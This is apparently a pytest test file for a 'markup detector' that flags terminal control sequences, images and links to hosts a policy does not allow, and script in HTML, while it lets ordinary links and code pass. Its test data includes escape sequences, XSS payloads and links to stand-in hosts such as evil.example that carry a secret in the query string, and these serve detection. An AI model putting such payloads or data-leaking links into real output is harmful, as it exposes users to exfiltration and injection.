"""The markup detector: terminal control sequences, images and links to hosts a policy
does not allow, and script in HTML; ordinary answers with links and code pass."""

from __future__ import annotations

import pytest

from guard.detectors.markup import MarkupConfig, MarkupDetector


async def _found(text: str, **config: object) -> list[str]:
    detector = MarkupDetector(MarkupConfig.model_validate({"type": "markup", **config}))
    [findings] = await detector.detect([text])
    return [text[f.start : f.end] for f in findings]


@pytest.mark.parametrize(
    "sequence",
    [
        "\x1b[31m",  # colour
        "\x1b[2J",  # erase the screen
        "\x1b]0;new title\x07",  # window title
        "\x1b]8;;https://evil.example\x1b\\",  # OSC 8 hyperlink
        "\x9b1;31m",  # CSI as one C1 character
        "\x08",  # backspace over what was shown
        "\r",  # carriage return: overwrite the line
    ],
)
async def test_terminal_control_sequences_are_found(sequence: str) -> None:
    assert await _found(f"ok {sequence} done", find="terminal") == [sequence]


async def test_tabs_newlines_and_written_out_escapes_are_not_control_sequences() -> None:
    assert await _found('a\tb\nprint("\\033[1m")', find="terminal") == []


async def test_images_on_hosts_not_allowed_are_found_subdomains_of_allowed_ones_pass() -> None:
    text = (
        "![a](https://cdn.example.com/a.png) ![b](https://evil.example/b.png?x=1) "
        '<img alt="c" src="//tracker.example/c.gif">\n[ref]: https://evil.example/r.png'
    )
    found = await _found(text, find="links", allow_hosts=["example.com"])
    assert found == [
        "![b](https://evil.example/b.png?x=1)",
        '<img alt="c" src="//tracker.example/c.gif">',
        "[ref]: https://evil.example/r.png",
    ]


async def test_links_count_only_with_data_when_asked() -> None:
    text = "[docs](https://docs.python.org/3/) and [go](https://evil.example/c?s=secret)"
    assert await _found(text, find="links", kinds=["links"], only_with_data=True) == [
        "[go](https://evil.example/c?s=secret)"
    ]
    assert len(await _found(text, find="links", kinds=["links"])) == 2
    assert await _found(text, find="links", kinds=["images"]) == []


async def test_relative_mailto_and_data_urls_fetch_from_no_host() -> None:
    text = "![l](/logo.png) [m](mailto:a@b.example) ![d](data:image/png;base64,AAAA)"
    assert await _found(text, find="links") == []


@pytest.mark.parametrize(
    "script",
    [
        "<script>alert(1)</script>",
        "<SCRIPT src=//x.example/a.js></SCRIPT>",
        'onerror="fetch(1)"',
        "javascript:alert(1)",
        '<iframe src="https://x.example">',
        "data:text/html,<b>x</b>",
    ],
)
async def test_script_in_html_is_found(script: str) -> None:
    assert await _found(f"<p>hi {script}</p>", find="script")


async def test_prose_about_scripts_and_handlers_is_not_script() -> None:
    text = "Use an onclick handler sparingly; the script tag loads JavaScript: see MDN."
    assert await _found(text, find="script") == []
